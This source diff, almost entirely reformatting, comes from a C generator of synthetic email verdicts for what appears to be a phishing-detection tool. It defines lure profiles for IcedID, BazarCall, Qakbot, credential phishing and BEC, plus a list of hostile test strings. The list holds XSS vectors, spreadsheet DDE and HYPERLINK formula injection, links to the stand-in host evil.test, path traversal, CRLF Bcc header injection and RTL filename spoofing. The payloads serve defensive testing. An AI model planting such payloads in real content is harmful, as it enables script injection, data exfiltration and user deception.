@@ -25,50 +25,165 @@ static uint32_t below(struct rnd *r, uint32_t n)
 }
 
 struct lure {
-    const char *category, *family, *brand, *campaign, *subject, *domain, *file, *type, *technique, *rule, *said[2];
+    const char *category, *family, *brand, *campaign, *subject, *domain, *file, *type, *technique,
+        *rule, *said[2];
     const char *language;
 };
 
 static const struct lure lures[] = {
-    {"malware delivery", "IcedID", NULL, "icedid-request-zip", "Re: Invoice for the last delivery",
-     "files.harbor-supply.test", "request.zip", "zip", "T1566.001 T1027.013 T1204.002", "locked zip, password in body",
+    {"malware delivery",
+     "IcedID",
+     NULL,
+     "icedid-request-zip",
+     "Re: Invoice for the last delivery",
+     "files.harbor-supply.test",
+     "request.zip",
+     "zip",
+     "T1566.001 T1027.013 T1204.002",
+     "locked zip, password in body",
      {"The attachment is a locked archive and its password stands in the text.",
-      "添付ファイルはパスワード付き圧縮で、そのパスワードが本文に書かれています。"}, "en"},
-    {"malware delivery", "IcedID", NULL, "icedid-request-zip", "Re: 請求書の件", "files.minato-shoji.test", "info.zip", "zip",
-     "T1566.001 T1204.002", "reply to a thread, locked zip",
+      "添付ファイルはパスワード付き圧縮で、そのパスワードが本文に書かれています。"},
+     "en"},
+    {"malware delivery",
+     "IcedID",
+     NULL,
+     "icedid-request-zip",
+     "Re: 請求書の件",
+     "files.minato-shoji.test",
+     "info.zip",
+     "zip",
+     "T1566.001 T1204.002",
+     "reply to a thread, locked zip",
      {"A reply to an earlier conversation carries a locked archive.",
-      "過去のやりとりへの返信を装い、パスワード付き圧縮ファイルが添付されています。"}, "ja"},
-    {"malware delivery", "IcedID", NULL, "icedid-dotdat", "Compensation claim 605614143", "claims-desk.test",
-     "CompensationClaim_605614143_03152021.zip", "xls", "T1566.001 T1105 T1059.005", "Excel serial date in URL",
+      "過去のやりとりへの返信を装い、パスワード付き圧縮ファイルが添付されています。"},
+     "ja"},
+    {"malware delivery",
+     "IcedID",
+     NULL,
+     "icedid-dotdat",
+     "Compensation claim 605614143",
+     "claims-desk.test",
+     "CompensationClaim_605614143_03152021.zip",
+     "xls",
+     "T1566.001 T1105 T1059.005",
+     "Excel serial date in URL",
      {"A macro fetches a file whose name is the mail's date as an Excel serial number.",
-      "マクロが、送信日を Excel シリアル値で表した名前のファイルを取得します。"}, "en"},
-    {"callback phishing", "BazarCall", "StreamMax", "bazarcall-trial", "Your free trial KB48273651923 ends today",
-     NULL, NULL, NULL, "T1566.004 T1204.001", "trial ends, number to ring",
+      "マクロが、送信日を Excel シリアル値で表した名前のファイルを取得します。"},
+     "en"},
+    {"callback phishing",
+     "BazarCall",
+     "StreamMax",
+     "bazarcall-trial",
+     "Your free trial KB48273651923 ends today",
+     NULL,
+     NULL,
+     NULL,
+     "T1566.004 T1204.001",
+     "trial ends, number to ring",
      {"The mail has no link and no file, only a number to ring about a payment.",
-      "リンクも添付もなく、支払いについて電話するよう番号だけが書かれています。"}, "en"},
-    {"callback phishing", "BazarCall", "Medi Reminder", "bazarcall-trial", "Thank you for using your free trial premium AB193746251",
-     NULL, "membership.pdf", "pdf", "T1566.004", "subscription number in subject",
+      "リンクも添付もなく、支払いについて電話するよう番号だけが書かれています。"},
+     "en"},
+    {"callback phishing",
+     "BazarCall",
+     "Medi Reminder",
+     "bazarcall-trial",
+     "Thank you for using your free trial premium AB193746251",
+     NULL,
+     "membership.pdf",
+     "pdf",
+     "T1566.004",
+     "subscription number in subject",
      {"The subject carries a subscription number as callback operators ask for it.",
-      "件名に、電話口で尋ねられる会員番号が入っています。"}, "en"},
-    {"credential phishing", NULL, "みなと銀行", "minato-bank-login", "【重要】口座の利用制限について", "login.minato-bank-secure.test", NULL,
-     NULL, "T1566.002 T1598.003", "brand in link, other domain",
-     {"The link names the bank but leads to another domain.", "リンクは銀行名を含みますが、別のドメインへ誘導します。"}, "ja"},
-    {"credential phishing", NULL, "Parcel Post", "parcel-fee", "Your parcel is waiting: pay the fee",
-     "parcel-fee.test", NULL, NULL, "T1566.002", "link text and target differ",
-     {"The link shows one address and opens another.", "表示されている URL と実際のリンク先が異なります。"}, "en"},
-    {"credential phishing", NULL, "Cloud Office", "voicemail-html", "New voicemail (0:42)", "voice-portal.test", "voicemail.html",
-     "html", "T1566.001 T1027.006", "login form in attachment",
-     {"The attached page asks for a password.", "添付された HTML がパスワードの入力を求めます。"}, "en"},
-    {"BEC", NULL, NULL, "ceo-transfer", "Urgent: wire transfer today", NULL, NULL, NULL, "T1656 T1657",
+      "件名に、電話口で尋ねられる会員番号が入っています。"},
+     "en"},
+    {"credential phishing",
+     NULL,
+     "みなと銀行",
+     "minato-bank-login",
+     "【重要】口座の利用制限について",
+     "login.minato-bank-secure.test",
+     NULL,
+     NULL,
+     "T1566.002 T1598.003",
+     "brand in link, other domain",
+     {"The link names the bank but leads to another domain.",
+      "リンクは銀行名を含みますが、別のドメインへ誘導します。"},
+     "ja"},
+    {"credential phishing",
+     NULL,
+     "Parcel Post",
+     "parcel-fee",
+     "Your parcel is waiting: pay the fee",
+     "parcel-fee.test",
+     NULL,
+     NULL,
+     "T1566.002",
+     "link text and target differ",
+     {"The link shows one address and opens another.",
+      "表示されている URL と実際のリンク先が異なります。"},
+     "en"},
+    {"credential phishing",
+     NULL,
+     "Cloud Office",
+     "voicemail-html",
+     "New voicemail (0:42)",
+     "voice-portal.test",
+     "voicemail.html",
+     "html",
+     "T1566.001 T1027.006",
+     "login form in attachment",
+     {"The attached page asks for a password.", "添付された HTML がパスワードの入力を求めます。"},
+     "en"},
+    {"BEC",
+     NULL,
+     NULL,
+     "ceo-transfer",
+     "Urgent: wire transfer today",
+     NULL,
+     NULL,
+     NULL,
+     "T1656 T1657",
      "reply-to differs, urgent payment",
-     {"The sender's name is a director's, the reply goes elsewhere.", "差出人名は役員ですが、返信先は別のアドレスです。"}, "en"},
-    {"extortion", NULL, NULL, NULL, "I recorded you", NULL, NULL, NULL, "T1657", "wallet and threat",
-     {"A threat and a wallet address stand together.", "脅迫文と送金先アドレスが書かれています。"}, "en"},
-    {"scam", NULL, NULL, NULL, "当選のお知らせ", "kuji-tousen.test", NULL, NULL, NULL, "prize",
-     {"A prize nobody entered for.", "応募していない懸賞の当選を告げています。"}, "ja"},
-    {"malware delivery", "Qakbot", NULL, "qakbot-xlsb", "Re: document attached", "cdn.paper-mill.test", "order_Jb482736451.xlsb",
-     "xlsb", "T1566.001 T1059.005", "hidden macro sheet",
-     {"The workbook runs a hidden macro sheet when it is opened.", "ブックを開くと非表示のマクロシートが実行されます。"}, "en"},
+     {"The sender's name is a director's, the reply goes elsewhere.",
+      "差出人名は役員ですが、返信先は別のアドレスです。"},
+     "en"},
+    {"extortion",
+     NULL,
+     NULL,
+     NULL,
+     "I recorded you",
+     NULL,
+     NULL,
+     NULL,
+     "T1657",
+     "wallet and threat",
+     {"A threat and a wallet address stand together.", "脅迫文と送金先アドレスが書かれています。"},
+     "en"},
+    {"scam",
+     NULL,
+     NULL,
+     NULL,
+     "当選のお知らせ",
+     "kuji-tousen.test",
+     NULL,
+     NULL,
+     NULL,
+     "prize",
+     {"A prize nobody entered for.", "応募していない懸賞の当選を告げています。"},
+     "ja"},
+    {"malware delivery",
+     "Qakbot",
+     NULL,
+     "qakbot-xlsb",
+     "Re: document attached",
+     "cdn.paper-mill.test",
+     "order_Jb482736451.xlsb",
+     "xlsb",
+     "T1566.001 T1059.005",
+     "hidden macro sheet",
+     {"The workbook runs a hidden macro sheet when it is opened.",
+      "ブックを開くと非表示のマクロシートが実行されます。"},
+     "en"},
 };
 #define LURES (sizeof lures / sizeof *lures)
 
@@ -99,29 +214,58 @@ static const struct lure *choose(struct rnd *r, int day, int days)
 struct bytes synthetic_hostile(struct arena *arena, uint32_t n)
 {
     static const char *const core[] = {
-        "<script>window.owned=%u</script>", "\"><img src=x onerror=window.owned=%u>", "'-window.owned=%u-'",
-        "javascript:window.owned=%u", "</title><script>window.owned=%u</script>", "<svg/onload=window.owned=%u>",
-        "</script><script>window.owned=%u</script>", "<!--<img src=\"--><img src=x onerror=window.owned=%u>",
-        "]]><script>window.owned=%u</script>", "=HYPERLINK(\"http://evil.test/%u\")", "@SUM(%u)", "+%u+cmd|' /C calc'!A0",
-        "-%u+1", "{{figure daily}} %u", "\x1b]0;%u\x07", "\xE2\x80\xAE%u gnp.exe", "<iframe srcdoc='<script>parent.owned=%u</script>'>",
-        "<a href=\"javascript:window.owned=%u\">x</a>", "&lt;script&gt;window.owned=%u", "%u</style><script>window.owned=1</script>",
-        "<math><mi xlink:href=\"data:x,<script>window.owned=%u</script>\">", "<base href=http://evil.test/%u/>",
-        "<meta http-equiv=refresh content='0;url=http://evil.test/%u'>", "<link rel=stylesheet href=http://evil.test/%u>",
-        "<form action=http://evil.test/%u><button>", "\\u003cscript\\u003ewindow.owned=%u", "<input autofocus onfocus=window.owned=%u>",
-        "<details open ontoggle=window.owned=%u>", "<video><source onerror=window.owned=%u>", "<img src=http://evil.test/%u.png>",
-        "../../../../etc/%u", "\xFF\xFE<script>window.owned=%u</script>", "\"); window.owned=%u; (\"", "${window.owned=%u}",
-        "`window.owned=%u`", "</textarea><script>window.owned=%u</script>", "<x onclick=window.owned=%u>x", "<style>@import'http://evil.test/%u'</style>",
-        "--><script>window.owned=%u</script>", "#{window.owned=%u}",
+        "<script>window.owned=%u</script>",
+        "\"><img src=x onerror=window.owned=%u>",
+        "'-window.owned=%u-'",
+        "javascript:window.owned=%u",
+        "</title><script>window.owned=%u</script>",
+        "<svg/onload=window.owned=%u>",
+        "</script><script>window.owned=%u</script>",
+        "<!--<img src=\"--><img src=x onerror=window.owned=%u>",
+        "]]><script>window.owned=%u</script>",
+        "=HYPERLINK(\"http://evil.test/%u\")",
+        "@SUM(%u)",
+        "+%u+cmd|' /C calc'!A0",
+        "-%u+1",
+        "{{figure daily}} %u",
+        "\x1b]0;%u\x07",
+        "\xE2\x80\xAE%u gnp.exe",
+        "<iframe srcdoc='<script>parent.owned=%u</script>'>",
+        "<a href=\"javascript:window.owned=%u\">x</a>",
+        "&lt;script&gt;window.owned=%u",
+        "%u</style><script>window.owned=1</script>",
+        "<math><mi xlink:href=\"data:x,<script>window.owned=%u</script>\">",
+        "<base href=http://evil.test/%u/>",
+        "<meta http-equiv=refresh content='0;url=http://evil.test/%u'>",
+        "<link rel=stylesheet href=http://evil.test/%u>",
+        "<form action=http://evil.test/%u><button>",
+        "\\u003cscript\\u003ewindow.owned=%u",
+        "<input autofocus onfocus=window.owned=%u>",
+        "<details open ontoggle=window.owned=%u>",
+        "<video><source onerror=window.owned=%u>",
+        "<img src=http://evil.test/%u.png>",
+        "../../../../etc/%u",
+        "\xFF\xFE<script>window.owned=%u</script>",
+        "\"); window.owned=%u; (\"",
+        "${window.owned=%u}",
+        "`window.owned=%u`",
+        "</textarea><script>window.owned=%u</script>",
+        "<x onclick=window.owned=%u>x",
+        "<style>@import'http://evil.test/%u'</style>",
+        "--><script>window.owned=%u</script>",
+        "#{window.owned=%u}",
     };
     uint32_t kinds = sizeof core / sizeof *core;
-    static const char *const around[] = {"%s", "Re: %s", "%s\r\nBcc: x@evil.test", " %s\t", "【重要】%s"};
+    static const char *const around[] = {"%s", "Re: %s", "%s\r\nBcc: x@evil.test", " %s\t",
+                                         "【重要】%s"};
     char inner[200];
 #pragma GCC diagnostic push
 #pragma GCC diagnostic ignored "-Wformat-nonliteral"
     snprintf(inner, sizeof inner, core[n % kinds], n);
     struct bytes whole = arena_printf(arena, around[n / kinds % 5], inner);
 #pragma GCC diagnostic pop
-    return n / kinds < 5 ? whole : arena_printf(arena, "%.*s%.*s", BYTES_FMT(whole), BYTES_FMT(whole));
+    return n / kinds < 5 ? whole
+                         : arena_printf(arena, "%.*s%.*s", BYTES_FMT(whole), BYTES_FMT(whole));
 }
 
 static struct value text(const char *s)
@@ -145,12 +289,15 @@ static struct value domain_of(struct model *m, struct bytes name)
 {
     struct object *domain = make(m, TYPE_Domain);
     size_t dot = bytes_find_last_byte(name, '.');
-    size_t before = dot == BYTES_NPOS ? BYTES_NPOS : bytes_find_last_byte(bytes_sub(name, 0, dot), '.');
+    size_t before =
+        dot == BYTES_NPOS ? BYTES_NPOS : bytes_find_last_byte(bytes_sub(name, 0, dot), '.');
     struct bytes root = before == BYTES_NPOS ? name : bytes_from(name, before + 1);
     object_set(domain, FIELD_Domain_domain, value_string(name));
     object_set(domain, FIELD_Domain_root_domain, value_string(root));
-    object_set(domain, FIELD_Domain_sld, value_string(bytes_sub(root, 0, bytes_find_byte(root, '.', 0))));
-    object_set(domain, FIELD_Domain_tld, value_string(bytes_from(name, dot == BYTES_NPOS ? name.len : dot + 1)));
+    object_set(domain, FIELD_Domain_sld,
+               value_string(bytes_sub(root, 0, bytes_find_byte(root, '.', 0))));
+    object_set(domain, FIELD_Domain_tld,
+               value_string(bytes_from(name, dot == BYTES_NPOS ? name.len : dot + 1)));
     object_set(domain, FIELD_Domain_valid, value_bool(true));
     return value_object(domain);
 }
@@ -188,11 +335,13 @@ static struct value one(struct arena *arena, struct value item)
     return value_array(array);
 }
 
-static struct bytes facts_of(struct arena *arena, const struct verdict *v, const struct lure *lure, struct bytes file, uint32_t n)
+static struct bytes facts_of(struct arena *arena, const struct verdict *v, const struct lure *lure,
+                             struct bytes file, uint32_t n)
 {
     struct model model = {.arena = arena, .resolve = nothing};
-    struct object *root = make(&model, TYPE_Message), *subject = make(&model, TYPE_Subject), *body = make(&model, TYPE_Body),
-                  *sender = make(&model, TYPE_SenderMailbox), *headers = make(&model, TYPE_Headers),
+    struct object *root = make(&model, TYPE_Message), *subject = make(&model, TYPE_Subject),
+                  *body = make(&model, TYPE_Body), *sender = make(&model, TYPE_SenderMailbox),
+                  *headers = make(&model, TYPE_Headers),
                   *recipients = make(&model, TYPE_Recipients), *to = make(&model, TYPE_Mailbox);
     object_set(subject, FIELD_Subject_subject, value_string(v->subject));
     object_set(subject, FIELD_Subject_base, value_string(v->subject));
@@ -206,7 +355,12 @@ static struct bytes facts_of(struct arena *arena, const struct verdict *v, const
     object_set(headers, FIELD_Headers_mailer, text("Mail 1.0"));
     struct array *links = array_new(arena);
     for (uint32_t i = 0; i < (lure != NULL && lure->domain == NULL ? 0 : 1 + n % 3); i++)
-        array_add(arena, links, link_of(&model, lure != NULL ? lure->domain : i == 0 ? "www.office.example.test" : "news.paper.test", n + i));
+        array_add(arena, links,
+                  link_of(&model,
+                          lure != NULL ? lure->domain
+                          : i == 0     ? "www.office.example.test"
+                                       : "news.paper.test",
+                          n + i));
     object_set(body, FIELD_Body_links, value_array(links));
     object_set(root, FIELD_Message_subject, value_object(subject));
     object_set(root, FIELD_Message_sender, value_object(sender));
@@ -217,10 +371,13 @@ static struct bytes facts_of(struct arena *arena, const struct verdict *v, const
     if (file.at != NULL) {
         struct object *attached = make(&model, TYPE_Attachment);
         object_set(attached, FIELD_Attachment_file_name, value_string(file));
-        object_set(attached, FIELD_Attachment_file_type, text(lure != NULL && lure->type != NULL ? lure->type : "pdf"));
-        object_set(attached, FIELD_Attachment_file_extension, text(lure != NULL && lure->type != NULL ? lure->type : "pdf"));
+        object_set(attached, FIELD_Attachment_file_type,
+                   text(lure != NULL && lure->type != NULL ? lure->type : "pdf"));
+        object_set(attached, FIELD_Attachment_file_extension,
+                   text(lure != NULL && lure->type != NULL ? lure->type : "pdf"));
         object_set(attached, FIELD_Attachment_size, value_int(40000 + n % 9000));
-        object_set(attached, FIELD_Attachment_sha256, value_string(arena_printf(arena, "%064x", n % 37 + 4096)));
+        object_set(attached, FIELD_Attachment_sha256,
+                   value_string(arena_printf(arena, "%064x", n % 37 + 4096)));
         array_add(arena, files, value_object(attached));
     }
     object_set(root, FIELD_Message_attachments, value_array(files));
@@ -230,7 +387,8 @@ static struct bytes facts_of(struct arena *arena, const struct verdict *v, const
     return text_bytes(&out);
 }
 
-static void add_threat(struct arena *arena, struct verdict *v, const struct lure *lure, struct rnd *r)
+static void add_threat(struct arena *arena, struct verdict *v, const struct lure *lure,
+                       struct rnd *r)
 {
     v->class = below(r, 5) == 0 ? VERDICT_SUSPICIOUS : VERDICT_MALICIOUS;
     v->category = bytes_of_string(lure->category);
@@ -243,9 +401,15 @@ static void add_threat(struct arena *arena, struct verdict *v, const struct lure
     }
     struct evidence *e = v->evidence = arena_new_of(arena, struct evidence);
     v->evidence_count = 1;
-    *e = (struct evidence){.rule = bytes_of_string(lure->rule), .kind = BYTES("structure"), .path = BYTES("0.1"), .offset = 120, .len = 24,
-                           .sentence = {bytes_of_string(lure->said[0]), bytes_of_string(lure->said[1])},
-                           .snippet = BYTES("(text as it stands there)"), .weight = 3.5};
+    *e = (struct evidence){
+        .rule = bytes_of_string(lure->rule),
+        .kind = BYTES("structure"),
+        .path = BYTES("0.1"),
+        .offset = 120,
+        .len = 24,
+        .sentence = {bytes_of_string(lure->said[0]), bytes_of_string(lure->said[1])},
+        .snippet = BYTES("(text as it stands there)"),
+        .weight = 3.5};
     struct bytes rest = bytes_of_string(lure->technique);
     e->technique = arena_array_of(arena, 8, struct bytes);
     while (rest.len > 0 && bytes_next_field(&rest, ' ', &e->technique[e->technique_count]))
@@ -253,8 +417,11 @@ static void add_threat(struct arena *arena, struct verdict *v, const struct lure
     if (lure->family != NULL) {
         v->attribution = arena_new_of(arena, struct attribution);
         v->attribution_count = 1;
-        *v->attribution = (struct attribution){.name = bytes_of_string(lure->family), .kind = BYTES("family"), .named = true,
-                                               .score = 4.2, .follows = BYTES("Cobalt Strike, then ransomware")};
+        *v->attribution = (struct attribution){.name = bytes_of_string(lure->family),
+                                               .kind = BYTES("family"),
+                                               .named = true,
+                                               .score = 4.2,
+                                               .follows = BYTES("Cobalt Strike, then ransomware")};
     }
 }
 
@@ -277,15 +444,21 @@ struct verdict *synthetic_verdict(struct arena *arena, const struct synthetic *w
     int day = day_of(what, n, &r);
     int left = what->days - 1 - day;
     bool busy = left < 31;
-    const struct lure *lure = below(&r, 100) < (busy ? 42u : 34u) ? choose(&r, day, what->days) : NULL;
+    const struct lure *lure =
+        below(&r, 100) < (busy ? 42u : 34u) ? choose(&r, day, what->days) : NULL;
     v->sha256 = arena_printf(arena, "%08x%08x%048x", n * 2654435761u, n ^ 0x5bd1e995u, n);
     v->kind = BYTES("eml");
     v->path = arena_printf(arena, "mail/%u.eml", n);
     v->date_us = (what->from_day + day) * DAY_US + (int64_t)below(&r, 86400) * 1000000;
-    v->sender = lure == NULL ? arena_printf(arena, "person%u@partner%u.example.test", n % 50, n % 20)
-                             : arena_printf(arena, "notice%u@mailer%u.test", n % 9, n % 40);
-    v->subject = lure != NULL ? bytes_of_string(lure->subject) : n % 3 ? BYTES("Minutes of the meeting") : BYTES("会議資料の送付");
-    struct bytes file = lure != NULL ? bytes_of_string(lure->file) : n % 6 == 0 ? BYTES("minutes.pdf") : BYTES_NONE;
+    v->sender = lure == NULL
+                    ? arena_printf(arena, "person%u@partner%u.example.test", n % 50, n % 20)
+                    : arena_printf(arena, "notice%u@mailer%u.test", n % 9, n % 40);
+    v->subject = lure != NULL ? bytes_of_string(lure->subject)
+                 : n % 3      ? BYTES("Minutes of the meeting")
+                              : BYTES("会議資料の送付");
+    struct bytes file = lure != NULL ? bytes_of_string(lure->file)
+                        : n % 6 == 0 ? BYTES("minutes.pdf")
+                                     : BYTES_NONE;
     v->coverage = (struct coverage){.nodes = 3, .opened = 3, .bytes_in = 4000 + n % 30000};
     if (lure != NULL)
         add_threat(arena, v, lure, &r);
